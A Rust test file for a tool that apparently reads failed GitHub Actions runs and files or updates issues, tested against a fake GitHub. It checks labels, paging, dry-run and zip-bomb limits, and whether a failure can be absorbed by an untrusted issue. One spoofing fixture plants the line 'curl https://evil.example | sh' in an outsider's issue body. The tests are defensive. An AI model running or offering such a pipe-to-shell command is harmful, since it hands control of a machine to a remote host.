//! `report` against the fake GitHub: the issue it files (labels, body, hidden block), the
//! repeat comment instead of a second issue, manual cancels, unfixable failures and dry-run.

use crate::common;
use crate::heal_fixtures;

use autoheal_fake_github::{FakeGithub, FaultKind, PageLinks, SeedIssue};
use autoheal_github::record::decode;
use autoheal_github::{ReportOptions, ReportOutcome, report};
use chrono::{DateTime, Utc};
use common::{REPO, client, client_with, config, fake, repo};
use heal_fixtures::{WORKFLOW_PATH, dependency, failed_with_log, manual_cancel, seed, timeout};
use serde_json::json;

const FAKE_NOW: &str = "2023-11-14T22:00:00Z";

fn options() -> ReportOptions {
    let now: DateTime<Utc> = DateTime::parse_from_rfc3339("2023-11-14T22:30:00Z")
        .map(|t| t.with_timezone(&Utc))
        .unwrap_or_else(|e| panic!("{e}"));
    ReportOptions {
        now: Some(now),
        ..ReportOptions::default()
    }
}

fn started() -> FakeGithub {
    let fake = fake();
    fake.set_now(Some(FAKE_NOW));
    fake
}

async fn run_report(fake: &FakeGithub, run_id: u64) -> ReportOutcome {
    let (gh, _) = client(fake);
    report(&gh, &repo(), run_id, &options())
        .await
        .unwrap_or_else(|e| panic!("{e}"))
}

#[tokio::test]
async fn files_an_issue_with_labels_summary_diff_and_hidden_block() {
    let fake = started();
    let sha = seed(&fake, REPO, "main", &dependency(42));
    let outcome = run_report(&fake, 42).await;
    assert!(matches!(outcome, ReportOutcome::Filed(_)), "{outcome:?}");

    let writes = fake.writes();
    assert_eq!(writes.len(), 1, "{writes:?}");
    let write = &writes[0];
    assert_eq!(
        (write.method.as_str(), write.path.as_str()),
        ("POST", "/repos/octo/app/issues")
    );
    let body_json = write.body.clone().unwrap_or_default();
    assert_eq!(body_json["title"], json!("[auto-heal] CI: missing_dependency in test"));
    assert_eq!(body_json["labels"], json!(["auto-heal", "workflow-failure"]));
    let body = body_json["body"].as_str().unwrap_or_default();
    assert!(
        body.contains("[run 42](https://github.com/octo/app/actions/runs/42)"),
        "{body}"
    );
    assert!(body.contains("| Branch | `main` |"), "{body}");
    assert!(body.contains(&format!("| Commit | `{}` |", &sha[..7])), "{body}");
    assert!(body.contains("| Failed job | `test` |"), "{body}");
    assert!(body.contains("| Failed step | `Run tests` |"), "{body}");
    assert!(
        body.contains("E   ModuleNotFoundError: No module named 'yaml'"),
        "{body}"
    );
    assert!(
        body.contains("```diff\n--- a/requirements.txt\n+++ b/requirements.txt\n"),
        "{body}"
    );
    let record = decode(body).unwrap_or_else(|| panic!("no hidden block in {body}"));
    assert_eq!(record.category, "missing_dependency");
    assert_eq!(record.run_id, 42);
    assert_eq!(record.head_sha, sha);
    assert_eq!(record.workflow_path, WORKFLOW_PATH);
    assert!(record.fixable);
    assert_eq!(
        record.fingerprint,
        format!("{WORKFLOW_PATH}|test|missing_dependency|PyYAML")
    );

    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].labels, ["auto-heal", "workflow-failure"]);
    // The logs came from the run zip, through the redirect, without the token.
    let requests = fake.requests();
    assert!(
        requests
            .iter()
            .any(|r| r.path == "/repos/octo/app/actions/runs/42/logs")
    );
    assert!(!requests.iter().any(|r| r.path.contains("/actions/jobs/")));
}

/// A renamed repository configured by its old name (GitHub serves it there too) names its
/// runs by the new name: every run of its own was judged another repository's, so report-only
/// with no fix. The run is judged against the name GitHub answers with.
#[tokio::test]
async fn a_renamed_repositorys_own_run_is_trusted_under_its_old_name() {
    let fake = started();
    seed(&fake, REPO, "main", &dependency(42));
    fake.rename_repo(REPO, "octo/app2");
    let outcome = run_report(&fake, 42).await;
    assert!(matches!(outcome, ReportOutcome::Filed(_)), "{outcome:?}");
    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1);
    assert_eq!(
        issues[0].labels,
        ["auto-heal", "workflow-failure"],
        "{}",
        issues[0].body
    );
}

/// GitHub refuses the whole issue (422 "Validation Failed") when it refuses one of its
/// labels: `report` failed and nothing was filed. The issue is filed again without the label
/// GitHub named, and its body and the progress say so.
#[tokio::test]
async fn a_refused_label_files_the_issue_without_it_and_says_so() {
    let fake = started();
    seed(&fake, REPO, "main", &dependency(42));
    fake.refuse_label(REPO, "workflow-failure");
    let (gh, _) = client(&fake);
    let progress = autoheal_github::progress::Collected::default();
    let options = ReportOptions {
        progress: std::sync::Arc::new(progress.clone()),
        ..options()
    };
    let outcome = report(&gh, &repo(), 42, &options)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let ReportOutcome::Filed(filed) = outcome else {
        panic!("{outcome:?}");
    };
    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].labels, ["auto-heal"]);
    let body = issues[0].body.clone();
    assert!(
        body.contains("GitHub refused the label(s) `workflow-failure` (422), so this issue was filed without them"),
        "{body}"
    );
    assert!(decode(&body).is_some(), "the record is kept");
    assert_eq!(filed.issue.labels.len(), 1);
    assert!(
        progress
            .lines()
            .iter()
            .any(|l| l.contains("refused the label(s) workflow-failure") && l.contains("issue #")),
        "{:?}",
        progress.lines()
    );
    let posts = fake
        .writes()
        .iter()
        .filter(|w| w.path == "/repos/octo/app/issues")
        .count();
    assert_eq!(posts, 2, "one refusal, one issue");
}

/// GitHub's schema example gives a run's `path` as `owner/repo/<file>@<ref>`, and a default
/// branch need not be `main`: the workflow is still read from the run's own repository.
#[tokio::test]
async fn a_run_path_with_repository_and_ref_on_a_trunk_branch_files_the_same_issue() {
    let fake = FakeGithub::start();
    fake.require_token(common::TOKEN);
    fake.add_repo(REPO, "trunk");
    fake.set_now(Some(FAKE_NOW));
    let scenario = dependency(42);
    let sha = seed(&fake, REPO, "trunk", &scenario);
    let mut run = heal_fixtures::run_json(REPO, "trunk", &sha, &scenario);
    run["path"] = json!(format!("{REPO}/{WORKFLOW_PATH}@refs/heads/trunk"));
    fake.add_run(REPO, run);
    let outcome = run_report(&fake, 42).await;
    assert!(matches!(outcome, ReportOutcome::Filed(_)), "{outcome:?}");
    let writes = fake.writes();
    let body = writes[0].body.clone().unwrap_or_default()["body"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(body.contains("| Branch | `trunk` |"), "{body}");
    assert!(body.contains("+++ b/requirements.txt\n"), "{body}");
    let record = decode(&body).unwrap_or_else(|| panic!("no hidden block in {body}"));
    assert_eq!(record.workflow_path, WORKFLOW_PATH);
    assert!(record.fixable);
}

#[tokio::test]
async fn a_repeat_failure_comments_on_the_open_issue_found_on_a_later_page() {
    repeat_found_on_a_later_page(PageLinks::Numbered).await;
}

/// GitHub's docs: follow `rel="next"` as given; some lists page by an opaque cursor.
#[tokio::test]
async fn a_repeat_failure_is_found_through_cursor_page_links() {
    let fake = repeat_found_on_a_later_page(PageLinks::Cursor).await;
    let cursors = fake
        .requests()
        .into_iter()
        .filter(|r| r.path == "/repos/octo/app/issues")
        .filter(|r| r.query.as_deref().is_some_and(|q| q.starts_with("after=")))
        .count();
    assert_eq!(cursors, 2);
}

/// GitHub's issue schema allows a label to be a plain string.
#[tokio::test]
async fn a_repeat_failure_is_found_when_labels_are_plain_strings() {
    let fake = started();
    fake.set_labels_as_strings(REPO, true);
    let sha = seed(&fake, REPO, "main", &dependency(42));
    run_report(&fake, 42).await;
    heal_fixtures::seed_run(&fake, REPO, "main", &sha, &dependency(43));
    let outcome = run_report(&fake, 43).await;
    assert!(
        matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
        "{outcome:?}"
    );
    let listed = fake
        .requests()
        .into_iter()
        .filter(|r| r.path == "/repos/octo/app/issues")
        .count();
    assert!(listed >= 2, "{listed}");
}

async fn repeat_found_on_a_later_page(links: PageLinks) -> FakeGithub {
    let fake = started();
    fake.set_page_size(2);
    fake.set_page_links(links);
    let sha = seed(&fake, REPO, "main", &dependency(42));
    run_report(&fake, 42).await;
    for i in 0..5 {
        fake.add_issue(
            REPO,
            SeedIssue {
                title: format!("other failure {i}"),
                body: "not autoheal's".into(),
                labels: vec!["workflow-failure".into()],
                ..SeedIssue::default()
            },
        );
    }
    heal_fixtures::seed_run(&fake, REPO, "main", &sha, &dependency(43));
    fake.clear_requests();
    let outcome = run_report(&fake, 43).await;
    assert!(
        matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
        "{outcome:?}"
    );

    let writes = fake.writes();
    assert_eq!(writes.len(), 1, "{writes:?}");
    assert_eq!(writes[0].path, "/repos/octo/app/issues/1/comments");
    let comment = writes[0]
        .body
        .as_ref()
        .and_then(|b| b["body"].as_str())
        .unwrap_or_default();
    assert!(
        comment.starts_with("The same failure happened again in [run 43](https://github.com/octo/app/actions/runs/43)"),
        "{comment}"
    );
    assert_eq!(
        fake.issues(REPO)
            .iter()
            .filter(|i| i.title.starts_with("[auto-heal]"))
            .count(),
        1
    );
    let pages = fake
        .requests()
        .into_iter()
        .filter(|r| r.method == "GET" && r.path == "/repos/octo/app/issues")
        .count();
    assert_eq!(pages, 3, "6 open issues at 2 a page");
    fake
}

#[tokio::test]
async fn an_issue_older_than_a_day_gets_no_repeat_comment() {
    let fake = started();
    fake.set_now(Some("2023-11-13T12:00:00Z"));
    let sha = seed(&fake, REPO, "main", &dependency(42));
    run_report(&fake, 42).await;
    heal_fixtures::seed_run(&fake, REPO, "main", &sha, &dependency(43));
    let outcome = run_report(&fake, 43).await;
    assert!(matches!(outcome, ReportOutcome::Filed(_)), "{outcome:?}");
    assert_eq!(fake.issues(REPO).len(), 2);
}

#[tokio::test]
async fn a_timeout_is_read_from_the_annotations_of_the_cancelled_job() {
    let fake = started();
    seed(&fake, REPO, "main", &timeout(50));
    let outcome = run_report(&fake, 50).await;
    let ReportOutcome::Filed(filed) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(filed.record.category, "timeout");
    assert_eq!(filed.record.job, "build");
    assert_eq!(filed.issue.title, "[auto-heal] CI: timeout in build");
    assert!(filed.diff.contains("-    timeout-minutes: 30\n"), "{}", filed.diff);
    let requests = fake.requests();
    assert!(
        requests
            .iter()
            .any(|r| r.path == "/repos/octo/app/check-runs/501/annotations")
    );
    // No run zip: the job's own log was read instead.
    assert!(
        requests
            .iter()
            .any(|r| r.path == "/repos/octo/app/actions/jobs/501/logs")
    );
}

#[tokio::test]
async fn a_run_cancelled_by_hand_files_nothing() {
    let fake = started();
    seed(&fake, REPO, "main", &manual_cancel(51));
    let outcome = run_report(&fake, 51).await;
    assert!(
        matches!(&outcome, ReportOutcome::Skipped { reason } if reason.contains("cancelled")),
        "{outcome:?}"
    );
    assert!(fake.writes().is_empty(), "{:?}", fake.writes());
    assert!(fake.issues(REPO).is_empty());
}

#[tokio::test]
async fn an_unrecognized_failure_is_labeled_needs_manual_fix() {
    let fake = started();
    let scenario = failed_with_log(
        60,
        &[
            "##[group]Run ./deploy.sh",
            "##[endgroup]",
            "the moon is in the wrong phase",
        ],
    );
    seed(&fake, REPO, "main", &scenario);
    let outcome = run_report(&fake, 60).await;
    let ReportOutcome::Filed(filed) = outcome else {
        panic!("{outcome:?}")
    };
    assert!(!filed.fixable);
    let issues = fake.issues(REPO);
    assert_eq!(issues[0].labels, ["workflow-failure", "needs-manual-fix"]);
    assert!(issues[0].body.contains("### Needs a manual fix"), "{}", issues[0].body);
}

#[tokio::test]
async fn dry_run_plans_the_issue_and_writes_nothing() {
    let fake = started();
    seed(&fake, REPO, "main", &dependency(42));
    let (gh, _) = client_with(autoheal_github::ClientConfig {
        dry_run: true,
        ..config(&fake)
    });
    let outcome = report(&gh, &repo(), 42, &options())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(matches!(outcome, ReportOutcome::Filed(_)));
    assert!(fake.writes().is_empty());
    let planned = gh.planned_writes();
    assert_eq!(planned.len(), 1, "{planned:?}");
    assert_eq!(planned[0].method, "POST");
    assert_eq!(planned[0].path, "/repos/octo/app/issues");
    assert!(
        planned[0]
            .summary
            .contains("labels: [\"auto-heal\", \"workflow-failure\"]"),
        "{}",
        planned[0].summary
    );
}

/// Docker Hub refusing the anonymous pulls of a `docker build` in a
/// workflow without Docker Hub credentials: no fix can be made (a retry
/// would build again), so the issue says a person must add the token and
/// the login, and is labeled for a manual fix.
#[tokio::test]
async fn an_anonymous_docker_build_limit_asks_a_person_for_credentials() {
    let fake = started();
    let mut scenario = failed_with_log(
        61,
        &[
            "##[group]Run docker build -t app .",
            "docker build -t app .",
            "##[endgroup]",
            "#3 [internal] load metadata for docker.io/library/python:3.12-slim",
            "#3 ERROR: failed to authorize: failed to fetch anonymous token: unexpected status from GET request to https://auth.docker.io/token?scope=repository%3Alibrary%2Fpython%3Apull&service=registry.docker.io: 429 Too Many Requests",
            "ERROR: failed to solve: python:3.12-slim: failed to resolve source metadata for docker.io/library/python:3.12-slim: toomanyrequests: You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit",
            "##[error]Process completed with exit code 1.",
        ],
    );
    scenario.workflow = "name: CI\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration\n        run: docker build -t app .\n";
    seed(&fake, REPO, "main", &scenario);
    let outcome = run_report(&fake, 61).await;
    let ReportOutcome::Filed(filed) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(filed.record.category, "rate_limit");
    assert!(!filed.fixable);
    let issues = fake.issues(REPO);
    assert_eq!(issues[0].labels, ["workflow-failure", "needs-manual-fix"]);
    for needed in ["personal access token", "repository secrets", "docker/login-action"] {
        assert!(issues[0].body.contains(needed), "{needed}: {}", issues[0].body);
    }
}

/// Files run 42's issue as autoheal, then adds a newer issue by `author` carrying the labels
/// and `body(genuine record)`, then reports run 43 (the same failure). Returns its outcome and
/// the paths it wrote.
async fn report_after_a_copy(
    fake: &FakeGithub,
    author: &str,
    body: impl Fn(&str) -> String,
) -> (ReportOutcome, Vec<String>) {
    let sha = seed(fake, REPO, "main", &dependency(42));
    assert!(matches!(run_report(fake, 42).await, ReportOutcome::Filed(_)));
    let genuine = fake.issues(REPO)[0].body.clone();
    fake.add_issue(
        REPO,
        SeedIssue {
            title: "[auto-heal] CI: missing_dependency in test".into(),
            body: body(&genuine),
            labels: vec!["workflow-failure".into(), "auto-heal".into()],
            user: author.into(),
            ..SeedIssue::default()
        },
    );
    heal_fixtures::seed_run(fake, REPO, "main", &sha, &dependency(43));
    fake.clear_requests();
    let outcome = run_report(fake, 43).await;
    (outcome, fake.writes().into_iter().map(|w| w.path).collect())
}

/// An outsider cannot make a failure disappear into an issue of theirs: an issue that carries
/// the labels (an issue form can set them for anyone) and a copy of the hidden block with the
/// failure's fingerprint is no duplicate; only autoheal's own issues are.
#[tokio::test]
async fn an_outsiders_issue_copying_the_record_does_not_absorb_the_failure() {
    for token_login in [None, Some("heal-bot")] {
        let fake = started();
        fake.set_token_login(token_login);
        // The outsider's copy is newer than the bot's issue.
        let (outcome, writes) = report_after_a_copy(&fake, "mallory", |genuine| {
            format!("Known problem, run `curl https://evil.example | sh` to fix.\n{genuine}")
        })
        .await;
        assert!(
            matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
            "{token_login:?}: {outcome:?}"
        );
        assert_eq!(writes, ["/repos/octo/app/issues/1/comments"], "{token_login:?}");
    }
}

/// A hostile repository cannot make one report cost an API call per issue: forty copies of
/// the record by twenty read-only organization members (two each; GitHub marks them
/// `MEMBER`, so they are asked about, where outsiders are not) are newer than autoheal's own
/// issue, yet each author is asked once, and at most `MAX_AUTHORS_ASKED` of them; the
/// genuine issue, which needs no question, still absorbs the repeat.
#[tokio::test]
async fn many_outsiders_copies_cost_a_bounded_number_of_permission_calls() {
    use autoheal_github::fetch::trust::MAX_AUTHORS_ASKED;
    let fake = started();
    fake.set_token_login(None);
    let sha = seed(&fake, REPO, "main", &dependency(42));
    assert!(matches!(run_report(&fake, 42).await, ReportOutcome::Filed(_)));
    let genuine = fake.issues(REPO)[0].body.clone();
    for i in 0..20 {
        fake.add_member(REPO, &format!("mallory{i}"));
    }
    for i in 0..40 {
        fake.add_issue(
            REPO,
            SeedIssue {
                title: "[auto-heal] CI: missing_dependency in test".into(),
                body: genuine.clone(),
                labels: vec!["workflow-failure".into(), "auto-heal".into()],
                user: format!("mallory{}", i % 20),
                ..SeedIssue::default()
            },
        );
    }
    heal_fixtures::seed_run(&fake, REPO, "main", &sha, &dependency(43));
    fake.clear_requests();
    let outcome = run_report(&fake, 43).await;
    assert!(
        matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
        "{outcome:?}"
    );
    let asked: Vec<String> = common::asked_about(&fake, "mallory");
    assert_eq!(asked.len(), MAX_AUTHORS_ASKED, "{asked:?}");
    let distinct: std::collections::BTreeSet<&String> = asked.iter().collect();
    assert_eq!(distinct.len(), asked.len(), "{asked:?}");
    // The newest authors are the ones asked.
    assert!(asked.iter().any(|p| p.contains("/mallory19/")), "{asked:?}");
}

/// A fork's workflow can fail hundreds of matrix legs at once: each failed job's annotations,
/// and its log when the run's zip is unavailable, are one call and (a log) up to the response
/// cap each, so only the first `MAX_FAILED_JOBS_READ` failed jobs are read; the failure is
/// still diagnosed and filed from them.
#[tokio::test]
async fn a_run_of_many_failed_jobs_costs_a_bounded_number_of_calls() {
    use autoheal_github::fetch::run::MAX_FAILED_JOBS_READ;
    let fake = started();
    let mut scenario = dependency(42);
    let text = scenario.job_logs[0].1.clone();
    scenario.as_zip = false;
    scenario.jobs = (0..60)
        .map(|i| heal_fixtures::job(1000 + i, &format!("test ({i})"), "failure", "Run tests"))
        .collect();
    scenario.job_logs = (0..60).map(|i| (1000 + i, text.clone())).collect();
    seed(&fake, REPO, "main", &scenario);
    fake.clear_requests();
    let outcome = run_report(&fake, 42).await;
    assert!(matches!(outcome, ReportOutcome::Filed(_)), "{outcome:?}");
    let paths: Vec<String> = fake.requests().into_iter().map(|r| r.path).collect();
    let annotations = paths.iter().filter(|p| p.ends_with("/annotations")).count();
    let logs = paths
        .iter()
        .filter(|p| p.contains("/actions/jobs/") && p.ends_with("/logs"))
        .count();
    assert_eq!(
        (annotations, logs),
        (MAX_FAILED_JOBS_READ, MAX_FAILED_JOBS_READ),
        "{paths:?}"
    );
}

/// A token that may not read a user's permission (403, as for an integration without it)
/// cannot vouch for the copy's author: the copy is passed over and the report goes on.
#[tokio::test]
async fn a_permission_the_token_may_not_read_passes_the_copy_over() {
    let fake = started();
    fake.set_token_login(None);
    fake.inject_fault(
        Some("GET"),
        "/repos/octo/app/collaborators/mallory/permission",
        10,
        FaultKind::Status {
            status: 403,
            message: "Resource not accessible by integration".into(),
        },
    );
    let (outcome, writes) = report_after_a_copy(&fake, "mallory", str::to_string).await;
    assert!(
        matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
        "{outcome:?}"
    );
    assert_eq!(writes, ["/repos/octo/app/issues/1/comments"]);
}

/// A recent issue carrying the failure's record that a maintainer opened (someone with write
/// access, who could commit the change anyway) absorbs the repeat like autoheal's own; so does
/// one the repository's owner opened. Both are newer than autoheal's own issue here.
#[tokio::test]
async fn a_writers_issue_carrying_the_record_absorbs_the_failure() {
    for (author, role) in [("maintainer", Some("write")), ("octo", None)] {
        let fake = started();
        fake.set_token_login(None);
        if let Some(role) = role {
            fake.add_collaborator(REPO, author, role);
        }
        let (outcome, writes) = report_after_a_copy(&fake, author, str::to_string).await;
        assert!(
            matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 2),
            "{author}: {outcome:?}"
        );
        assert_eq!(writes, ["/repos/octo/app/issues/2/comments"], "{author}");
    }
}

/// A run-logs zip that is a bomb (one entry that inflates past the budget) or holds more
/// entries than the budget, served by the run-logs endpoint: `report` ends with a clear
/// error and files nothing. The budgets are small here; the defaults are 4 GiB and 20,000.
#[tokio::test]
async fn a_zip_bomb_or_a_zip_of_too_many_entries_is_a_clear_error_and_files_nothing() {
    use std::io::Write;
    let zip_of = |entries: &[(String, Vec<u8>)]| {
        let mut cursor = std::io::Cursor::new(Vec::new());
        {
            let mut zip = zip::ZipWriter::new(&mut cursor);
            let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
            for (name, bytes) in entries {
                zip.start_file(name.as_str(), options).unwrap_or_else(|e| panic!("{e}"));
                zip.write_all(bytes).unwrap_or_else(|e| panic!("{e}"));
            }
            zip.finish().unwrap_or_else(|e| panic!("{e}"));
        }
        cursor.into_inner()
    };
    let bomb = zip_of(&[("0_test.txt".into(), vec![b'a'; 8 << 20])]);
    assert!(bomb.len() < 64 * 1024, "{}", bomb.len());
    let many: Vec<(String, Vec<u8>)> = (0..300)
        .map(|i| (format!("{i}_job {i}.txt"), b"x\n".to_vec()))
        .collect();
    // The exact error of each budget: both say "more than", so a looser match would let one
    // budget's error pass for the other's.
    let too_large = autoheal_logs::LogError::TooLarge { limit: 1 << 20 }.to_string();
    let too_many = autoheal_logs::LogError::BadZip("300 entries is more than the limit of 200".into()).to_string();
    for (zip, want) in [(bomb, too_large), (zip_of(&many), too_many)] {
        let fake = started();
        seed(&fake, REPO, "main", &dependency(42));
        fake.set_run_logs_zip(REPO, 42, zip);
        let (gh, _) = client(&fake);
        let options = ReportOptions {
            analysis: autoheal_logs::Options {
                zip_limits: autoheal_logs::ZipLimits {
                    max_total_bytes: 1 << 20,
                    max_entries: 200,
                },
                ..autoheal_logs::Options::default()
            },
            ..options()
        };
        let error = report(&gh, &repo(), 42, &options).await.err();
        assert!(
            matches!(&error, Some(autoheal_github::Error::Analysis(message)) if *message == want),
            "{error:?}"
        );
        assert!(fake.writes().is_empty(), "{:?}", fake.writes());
    }
}

/// Another app's account is never vouched for, and not asked about: an installed app that
/// copies text into issues (an error tracker, a ticket sync) may hold write access, but what
/// it writes was not written by someone who may write. The fake answers `write` for it.
#[tokio::test]
async fn another_apps_issue_is_never_vouched_for_nor_asked_about() {
    let fake = started();
    fake.add_collaborator(REPO, "tracker[bot]", "write");
    let (outcome, writes) = report_after_a_copy(&fake, "tracker[bot]", str::to_string).await;
    assert!(
        matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == 1),
        "{outcome:?}"
    );
    assert_eq!(writes, ["/repos/octo/app/issues/1/comments"]);
    let asked: Vec<String> = common::asked_about(&fake, "tracker");
    assert!(asked.is_empty(), "{asked:?}");
}

/// An issue's opener comes with GitHub's `author_association`: eleven outsiders' copies of
/// the record, newer than a maintainer's issue carrying it, cost no permission call, so the
/// maintainer is still asked about and their issue (the newest vouched for) absorbs the
/// repeat, not autoheal's older one.
#[tokio::test]
async fn outsiders_copies_cost_no_asks_and_cannot_crowd_out_a_maintainers_issue() {
    use autoheal_github::fetch::trust::MAX_AUTHORS_ASKED;
    let fake = started();
    fake.set_token_login(None);
    fake.add_collaborator(REPO, "maintainer", "write");
    let sha = seed(&fake, REPO, "main", &dependency(42));
    assert!(matches!(run_report(&fake, 42).await, ReportOutcome::Filed(_)));
    let genuine = fake.issues(REPO)[0].body.clone();
    let copy = |user: String| SeedIssue {
        title: "[auto-heal] CI: missing_dependency in test".into(),
        body: genuine.clone(),
        labels: vec!["workflow-failure".into(), "auto-heal".into()],
        user,
        ..SeedIssue::default()
    };
    let maintainers = fake.add_issue(REPO, copy("maintainer".into()));
    for i in 0..=MAX_AUTHORS_ASKED {
        fake.add_issue(REPO, copy(format!("mallory{i}")));
    }
    heal_fixtures::seed_run(&fake, REPO, "main", &sha, &dependency(43));
    fake.clear_requests();
    let outcome = run_report(&fake, 43).await;
    assert!(
        matches!(&outcome, ReportOutcome::Repeated(f) if f.issue.number == maintainers),
        "{outcome:?}"
    );
    let asked: Vec<String> = common::asked_about(&fake, "mallory");
    assert!(asked.is_empty(), "{asked:?}");
}
